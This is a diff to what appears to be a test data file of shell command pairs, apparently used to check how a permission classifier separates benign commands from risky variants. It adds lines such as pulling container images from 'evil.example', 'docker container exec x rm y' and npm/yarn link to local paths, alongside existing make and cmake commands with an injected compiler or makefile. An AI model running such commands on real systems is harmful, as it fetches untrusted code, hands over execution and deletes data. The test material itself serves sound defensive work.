@@ -120,6 +120,18 @@ cargo clippy | cargo clippy --fix
 make | make CC=evil | make SHELL=x | make -f evil | make -C sub
 make test | make test CC=./x | make test -f x | make test --eval=x
 cmake .. | cmake -DCMAKE_C_COMPILER_LAUNCHER=x ..
+docker pull alpine | docker pull evil.example/x
+docker image pull alpine | docker image pull evil.example/x
+podman pull alpine | podman pull evil.example/x
+crictl pull a | crictl pull evil.example/x
+docker context ls | docker context use x
+docker service ls | docker service create x
+docker start x | docker start y
+docker container ls | docker container start x | docker container exec x rm y
+npm link | npm link ../x
+npm ln | npm ln ../x
+pnpm link | pnpm link ../x
+yarn link | yarn link ../x
 docker ps | docker ps -H tcp://e | docker --host tcp://e ps
 docker rm x | docker rm -f x | docker rm -v x
 docker image ls | docker image prune -a | docker image rm x
